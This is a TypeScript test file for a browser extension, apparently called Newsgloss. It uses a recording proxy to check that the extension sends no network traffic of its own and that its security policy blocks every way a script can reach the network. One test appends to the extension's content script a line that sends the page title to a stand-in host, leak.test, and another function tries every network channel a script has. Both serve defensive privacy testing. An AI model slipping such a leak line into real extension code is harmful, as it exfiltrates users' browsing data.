import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import process from 'node:process';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { driveBrowser } from '../../scripts/driven-browser.mjs';
import { haveBrowser } from '../../scripts/install.mjs';
import { readPassages } from '../eval/read-passages.ts';
import { browserName } from './browser-name.ts';
import type { Heard, RecordingProxy } from './recording-proxy.ts';
import { recordingProxy } from './recording-proxy.ts';

/** How many pages are read. `npm run read-an-hour` asks for hundreds: more than a reader opens in an hour. */
const pageCount = Number(process.env['PAGES_READ'] ?? 6);

/** The extension's own pages are opened over every so many articles. */
const OWN_PAGES_EVERY = 5;

/** One page with its cards may take so long, in ms. */
const PATIENCE_A_PAGE = 15_000;

type Driven = Awaited<ReturnType<typeof driveBrowser>>;

/** Articles of a few passages each, with what pages ask the network for: a style, a picture, a script, and what that fetches. */
async function serveArticles(...proxies: RecordingProxy[]): Promise<string[]> {
	const serve: RecordingProxy['serve'] = (...file) => {
		for (const each of proxies) each.serve(...file);
	};
	const passages = (await readPassages('tests/eval/passages.txt', 'own passages')).map(
		({ blocks }) => blocks[0]?.text ?? '',
	);
	return Array.from({ length: pageCount }, (_, number) => {
		const site = `http://news-${number}.test`;
		const own = Array.from({ length: 8 }, (_, index) => passages[(number * 8 + index) % passages.length]);
		const text = [`Nvidia and OpenAI in the news, part ${number}.`, ...own].map((each) => `<p>${each}</p>`).join('\n');
		serve(`${site}/style.css`, 'text/css', 'body { font: 18px/2 serif; margin: 40px }');
		serve(`${site}/picture.svg`, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"/>');
		serve(`${site}/more.json`, 'application/json', JSON.stringify({ text: 'Microsoft says more of it.' }));
		serve(
			`${site}/script.js`,
			'text/javascript',
			`fetch('/more.json').then((answer) => answer.json()).then(({ text }) => {
				document.body.append(Object.assign(document.createElement('p'), { id: 'more', textContent: text }));
			});`,
		);
		serve(
			`${site}/article`,
			'text/html; charset=utf-8',
			`<!doctype html><html lang="en"><title>${number}</title><link rel="icon" href="data:,">
			<link rel="stylesheet" href="/style.css"><body>${text}<img src="/picture.svg" alt=""><script src="/script.js"></script>`,
		);
		return `${site}/article`;
	});
}

async function openArticle(driven: Driven, address: string): Promise<Page> {
	const page = await driven.browser.newPage();
	await page.goto(address, { waitUntil: 'load' });
	await page.waitForSelector('#more');
	return page;
}

/** Rests on the first mention until its card is there, and closes it. @returns the card's text, empty when none came */
async function openCard(driven: Driven, page: Page, tab: number): Promise<string> {
	await driven.reports(tab);
	await page.bringToFront();
	await expect.poll(() => driven.marksInView(page)).not.toEqual([]);
	const [mark] = await driven.marksInView(page);
	let card: string | null = null;
	// A window that is just coming to the front takes a first rest for something else; so would a reader try again.
	for (let attempt = 0; attempt < 4 && !card; attempt++) {
		await driven.restAt(page, mark?.x ?? 0, mark?.y ?? 0);
		card = await driven.waitForCard(tab, 2_000).catch(() => null);
	}
	await page.keyboard.press('Escape');
	return card ?? '';
}

/** Opens each page that the extension has, over a tab, with every view and whatever unfolds. @returns how many views */
async function openOwnPages(driven: Driven, tab: number): Promise<number> {
	let views = 0;
	for (const file of (await readdir('dist')).filter((name) => name.endsWith('.html'))) {
		const own = await driven.openOwn(`${file}?tab=${tab}`);
		await own.waitForFunction(() => (document.body.textContent ?? '').length > 50);
		views += await own.evaluate(async () => {
			const tabs = [...document.querySelectorAll<HTMLElement>('[role=tab]')];
			for (const each of tabs) {
				each.click();
				await new Promise(requestAnimationFrame);
				for (const details of document.querySelectorAll('details')) details.open = true;
			}
			return Math.max(1, tabs.length);
		});
		await own.close();
	}
	return views;
}

/** Reads every article with a card, and some with the extension's own pages opened over them. */
async function readAll(driven: Driven): Promise<{ cards: number; views: number }> {
	let cards = 0;
	let views = 0;
	for (const [index, address] of articles.entries()) {
		const page = await openArticle(driven, address);
		const tab = (await driven.tabOf(page)) as number;
		if ((await openCard(driven, page, tab)).includes('23 September 2025')) cards++;
		if (index % OWN_PAGES_EVERY === 0) views += await openOwnPages(driven, tab);
		await page.close();
	}
	return { cards, views };
}

const drive = (proxy: RecordingProxy, options: Parameters<typeof driveBrowser>[1]): Promise<Driven> =>
	driveBrowser(haveBrowser(browserName), { ...proxy.options, ...options });

const isPages = ({ host }: Heard): boolean => host.startsWith('news-') && host.endsWith('.test');

/** What the pages themselves asked for, each request in full; the order is the browser's. */
const askedByPages = ({ heard }: RecordingProxy): string[] =>
	heard
		.filter(isPages)
		.map(({ head }) => head)
		.sort();

/** Whoever else was asked, by the browser itself or by the extension. */
const otherHosts = ({ heard }: RecordingProxy): string[] => [
	...new Set(heard.filter((each) => !isPages(each)).map(({ host }) => host)),
];

let proxy: RecordingProxy;
/** What goes through this one is a browser's without the extension, open for as long: whom that asks is the browser's own affair. */
let proxyWithout: RecordingProxy;
let articles: string[];

beforeAll(async () => {
	[proxy, proxyWithout] = await Promise.all([recordingProxy(), recordingProxy()]);
	articles = await serveArticles(proxy, proxyWithout);
});
afterAll(() => {
	proxy.close();
	proxyWithout.close();
});

describe('reading behind a proxy that writes down every request', () => {
	it(
		'sends not one byte that the pages and the browser do not send without Newsgloss',
		async () => {
			const [driven, without] = await Promise.all([drive(proxy, {}), drive(proxyWithout, { dist: null })]);
			try {
				for (const address of articles) await (await openArticle(without, address)).close();
				const { cards, views } = await readAll(driven);
				const asked = askedByPages(proxy);
				console.info(
					`${browserName}: ${articles.length} pages, ${cards} cards, ${views} views of the extension's own pages. Asked by the pages: ` +
						`${asked.length} requests, ${asked.join('').length} B. By the browser alone: ${otherHosts(proxyWithout).join(', ') || 'nothing'}.`,
				);
				expect(cards).toBe(articles.length);
				expect(asked).toEqual(askedByPages(proxyWithout));
				expect(otherHosts(proxyWithout)).toEqual(expect.arrayContaining(otherHosts(proxy)));
			} finally {
				await Promise.all([driven.close(), without.close()]);
			}
		},
		60_000 + pageCount * PATIENCE_A_PAGE,
	);

	it('would hear an extension that does send', async () => {
		const folder = await mkdtemp(path.join(tmpdir(), 'newsgloss-'));
		await cp('dist', folder, { recursive: true });
		const content = await readFile(`${folder}/content.js`, 'utf8');
		await writeFile(`${folder}/content.js`, `${content};fetch('http://leak.test/?' + document.title).catch(() => {});`);
		const driven = await drive(proxy, { dist: folder });
		try {
			await openArticle(driven, articles[0] as string);
			await expect.poll(() => otherHosts(proxy)).toContain('leak.test');
		} finally {
			await driven.close();
			await rm(folder, { recursive: true });
		}
	});
});

/** Every way to the network that a script has. Runs in a page or background of the extension. @returns the ways that did not fail */
async function tryEveryWayOut(address: string): Promise<string[]> {
	const loads = (make: () => Element & { src?: string; href?: string; data?: string }, property: string) => () =>
		new Promise<void>((resolve, reject) => {
			const element = Object.assign(make(), {
				onload: () => resolve(),
				onerror: () => reject(),
				[property]: `${address}?${property}`,
			});
			document.documentElement.append(element);
			// A frame that the policy shuts says nothing, or loads an error page of the browser's own; the proxy is the judge of it.
			setTimeout(reject, 1_000);
		});
	const ways: Record<string, () => unknown> = {
		fetch: () => fetch(address),
		XMLHttpRequest: () =>
			new Promise((resolve, reject) => {
				const request = Object.assign(new XMLHttpRequest(), { onload: resolve, onerror: reject });
				request.open('POST', address);
				request.send('text');
			}),
		WebSocket: () =>
			new Promise((resolve, reject) => {
				Object.assign(new WebSocket(address.replace('http', 'ws')), { onopen: resolve, onerror: reject });
			}),
		EventSource: () =>
			new Promise((resolve, reject) => {
				Object.assign(new EventSource(address), { onopen: resolve, onerror: reject });
			}),
		image: loads(() => document.createElement('img'), 'src'),
		script: loads(() => document.createElement('script'), 'src'),
		style: loads(() => Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href'),
		object: loads(() => document.createElement('object'), 'data'),
		import: () => import(/* @vite-ignore */ address),
		// biome-ignore lint/security/noGlobalEval: that it fails is what is tested
		eval: () => globalThis.eval('1'),
	};
	// These tell nothing of whether they were let through: only the proxy knows.
	navigator.sendBeacon(address, 'text');
	document.documentElement.append(Object.assign(document.createElement('iframe'), { src: address }));
	document.documentElement.append(Object.assign(document.createElement('video'), { src: address }));
	const open: string[] = [];
	for (const [name, attempt] of Object.entries(ways)) {
		try {
			await attempt();
			open.push(name);
		} catch {}
	}
	return open;
}

/** Fetches in the extension's background. Chromium's is a worker a driver reaches; the window of Firefox's is given to the extension's own pages. */
async function fetchInBackground(driven: Driven, address: string): Promise<void> {
	if (browserName === 'firefox') {
		await driven.inExtension(async (to: string) => {
			const { runtime } = (globalThis as unknown as { browser: { runtime: { getBackgroundPage(): Promise<Window> } } })
				.browser;
			await (await runtime.getBackgroundPage()).fetch(to);
		}, address);
		return;
	}
	const target = await driven.browser.waitForTarget(
		(each) => each.type() === 'service_worker' && each.url().startsWith(driven.origin),
	);
	await (await target.worker())?.evaluate(async (to) => {
		await fetch(to);
	}, address);
}

describe("the policy of the extension's own pages", () => {
	it('shuts every way to the network, in its pages and its background', async () => {
		const driven = await drive(proxy, {});
		try {
			expect(await driven.inExtension(tryEveryWayOut, 'http://shut.test/page')).toEqual([]);
			await expect(fetchInBackground(driven, 'http://shut.test/background')).rejects.toThrow();
			// Whatever was sent before this is heard before this.
			await openArticle(driven, articles[0] as string);
			expect(otherHosts(proxy)).not.toContain('shut.test');
		} finally {
			await driven.close();
		}
	});
});
